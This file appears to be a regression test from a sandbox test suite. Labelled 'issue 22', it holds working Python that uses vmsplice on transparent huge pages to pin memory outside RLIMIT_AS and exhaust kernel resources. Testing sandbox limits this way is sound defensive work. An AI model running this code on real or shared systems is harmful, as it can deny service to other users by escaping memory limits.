# attack: issue 22: vmsplice 4 KiB of each transparent huge page into pipes, then unmap it: each pipe slot pins a whole 2 MiB page outside RLIMIT_AS
# expect: ok
# calls: ["0"]
# ruff: noqa
import ctypes, os, time
def f(hold):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
    libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    class iovec(ctypes.Structure):
        _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
    huge = 2 << 20
    per_map = 8
    spliced, pipes = 0, []
    while True:
        try:
            r, w = os.pipe()
        except OSError:
            break
        pipes.append((r, w))
        for _ in range(2):  # 16 slots: two maps of 8 huge pages each
            size = (per_map + 1) * huge
            addr = libc.mmap(None, size, 3, 0x22, -1, 0)
            if addr in (None, ctypes.c_void_p(-1).value):
                return spliced
            base = (addr + huge - 1) // huge * huge
            libc.madvise(base, per_map * huge, 14)  # MADV_HUGEPAGE
            iov = (iovec * per_map)()
            for i in range(per_map):
                ctypes.memset(base + i * huge, 1, huge)
                iov[i].base, iov[i].len = base + i * huge, 4096
            n = libc.vmsplice(w, iov, per_map, 0)
            libc.munmap(addr, size)
            if n <= 0:
                sum(range(int(hold * 20_000_000)))  # holds about `hold` seconds of CPU (a child has no clock)
                return spliced
            spliced += n
    sum(range(int(hold * 20_000_000)))  # holds about `hold` seconds of CPU (a child has no clock)
    return spliced
